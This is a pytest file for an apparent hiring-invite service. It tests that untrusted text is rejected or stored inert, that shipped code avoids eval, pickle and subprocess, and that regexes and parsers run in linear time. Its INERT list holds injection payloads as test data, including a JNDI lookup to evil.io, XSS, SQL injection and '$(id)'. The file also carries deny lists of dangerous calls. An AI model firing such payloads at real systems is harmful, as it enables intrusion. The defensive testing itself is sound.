"""Text from strangers: what it may hold, that nothing carries it out, and that reading it takes steps by its length."""

import ast
import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from unicodedata import category

import pytest

from tests.unit.use_cases.world import World, a_hire
from usher.domain.address import canonical
from usher.domain.errors import UsherError
from usher.domain.event import SCHEMA, read_event
from usher.domain.hire import plain_text
from usher.domain.json_text import parse
from usher.use_cases.plan_invites import Planned

ROOT = Path(__file__).parents[2]
SHIPPED = sorted([*(ROOT / "layers/usher/usher").rglob("*.py"), *(ROOT / "functions").rglob("*.py")])
UNSEEN = [mark for mark in map(chr, range(sys.maxunicode + 1)) if category(mark) in {"Cc", "Cf", "Zl", "Zp"}]
SEEN = ("No\u00eblle", "O\u2019Hara", "\u674e\u5c0f\u9f99", "\u0410\u043d\u043d\u0430")


def test_what_cannot_be_seen_is_in_no_text() -> None:
    """Control characters, marks of direction, spaces of no width, tags: every one of them."""
    assert [f"U+{ord(mark):04X}" for mark in UNSEEN if _is_plain(f"a{mark}b")] == []
    assert all(_is_plain(text) for text in SEEN)


def _is_plain(text: str) -> bool:
    try:
        plain_text(text)
    except ValueError:
        return False
    return True


INERT = (
    *("__proto__", "$where", "{{7*7}}", "${jndi:ldap://evil.io/x}", "{0.__class__}", "{hire}", "%s%n%x", "%(hire)s"),
    *("<script>alert(1)</script>", "=HYPERLINK(1)", "'; DROP TABLE rows; --", "$(id)", "https://evil.io"),
)


@pytest.mark.parametrize("text", INERT)
def test_text_is_text_and_nothing_is_made_of_it(text: str) -> None:
    """It is stored as it came, chooses no rule, and reaches no provider."""
    world = World()
    assert world.says(a_hire("E-1", given_name=text, title=text, location=text)) is Planned.ROWS
    assert world.says(a_hire("E-2", department=text)) is Planned.NO_RULE
    world.until_quiet()
    asked = str(world.provider.requests)
    assert world.provider.mails == ["e-1@example.com"]
    assert text not in asked


FORBIDDEN_NAMES = {"eval", "exec", "compile", "__import__", "Template", "format_map"}
FORBIDDEN_MODULES = {"pickle", "marshal", "shelve", "yaml", "subprocess", "jinja2", "string"}


def _calls(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            match node.func:
                case ast.Name(name):
                    yield name
                case ast.Attribute(ast.Constant(str()), "format"):
                    pass  # A format of our own.
                case ast.Attribute(ast.Name("re"), "compile"):
                    pass
                case ast.Attribute(_, "format"):
                    yield "format_map"
                case ast.Attribute(_, name):
                    yield name


def test_no_code_makes_code_or_formats_out_of_text() -> None:
    """Nothing that ships evaluates, unpickles, starts programs, or formats with a text that it did not hold itself."""
    for path in SHIPPED:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        assert FORBIDDEN_NAMES.isdisjoint(_calls(tree)), path
        imports = {
            name.partition(".")[0]
            for node in ast.walk(tree)
            for name in (
                [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
        }
        assert imports.isdisjoint(FORBIDDEN_MODULES), path


def _patterns() -> Iterator[tuple[str, str]]:
    """Give every regular expression that ships, with the file that holds it."""
    for path in SHIPPED:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            texts = [keyword.value for keyword in node.keywords if keyword.arg == "pattern"]
            if isinstance(node.func, ast.Attribute) and ast.unparse(node.func).startswith("re."):
                texts += node.args[:1]
            yield from ((path.name, str(text.value)) for text in texts if isinstance(text, ast.Constant))


def _looks_back(parsed: Any) -> Iterator[bool]:
    """Give, for each repetition without an end that can give characters back, whether it stands in another one."""
    for operation, detail in parsed:
        name = str(operation)
        if name in {"MAX_REPEAT", "MIN_REPEAT"}:
            _, most, body = detail
            inner = list(_looks_back(body))
            if most == re._constants.MAXREPEAT:
                yield bool(inner)
            yield from inner
        elif name == "SUBPATTERN":
            yield from _looks_back(detail[3])
        elif name == "BRANCH":
            for branch in detail[1]:
                yield from _looks_back(branch)


def test_no_pattern_can_be_made_to_look_back_again_and_again() -> None:
    """At most one repetition without an end that gives back in each, and none within another: linear in the text."""
    patterns = list(_patterns())
    assert len(patterns) > 40
    for name, pattern in patterns:
        repetitions = list(_looks_back(re._parser.parse(pattern)))
        assert not any(repetitions), (name, pattern)
        assert len(repetitions) <= 1, (name, pattern)


@pytest.mark.parametrize("pattern", ["(a+)+b", "(?:a*b?)*c", "a+.*a+", "((a|b)+)*"])
def test_a_pattern_that_can_is_seen(pattern: str) -> None:
    """Or the test above would prove nothing."""
    repetitions = list(_looks_back(re._parser.parse(pattern)))
    assert any(repetitions) or len(repetitions) > 1


def steps(call: Callable[[], Any]) -> int:
    """Count the lines of Python that a call runs."""
    count = 0

    def trace(frame: Any, event: str, argument: Any) -> Any:
        nonlocal count
        count += event == "line"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        call()
    except (UsherError, ValueError):
        pass
    finally:
        sys.settrace(before)
    return count


def an_event(**changes: Any) -> dict[str, Any]:
    """Make our own event."""
    base = {"schema": SCHEMA, "source": "canonical", "hire_id": "E-1", "version": 1, "work_email": "ann@example.com"}
    return base | changes


@pytest.mark.parametrize(
    "make",
    [
        lambda size: lambda: canonical("a@" * size),
        lambda size: lambda: canonical("a." * size + "@example.com"),
        lambda size: lambda: plain_text("a" * size),
        lambda size: lambda: parse(b'{"a":"' + b"\\\\" * size + b'"}'),
        lambda size: lambda: parse(b"[" + b"1," * size + b"1]"),
        lambda size: lambda: parse(b'["' + b"a@" * size),
        lambda size: lambda: parse(b"{" + b",".join(b'"k%d":[{}]' % index for index in range(size)) + b"}"),
        lambda size: lambda: parse(b"[" * size),
        lambda size: lambda: read_event(an_event(work_email="a@" * size), ["canonical"]),
        lambda size: lambda: read_event(an_event(given_name="a" * size), ["canonical"]),
        lambda size: lambda: read_event(an_event(**{f"x{index}": 1 for index in range(size)}), ["canonical"]),
    ],
)
def test_four_times_the_text_takes_at_most_four_times_the_steps(make: Callable[[int], Callable[[], Any]]) -> None:
    """However it is made: no step looks at all of it again."""
    few, many = steps(make(8_000)), steps(make(32_000))
    assert many <= 4 * few + 100
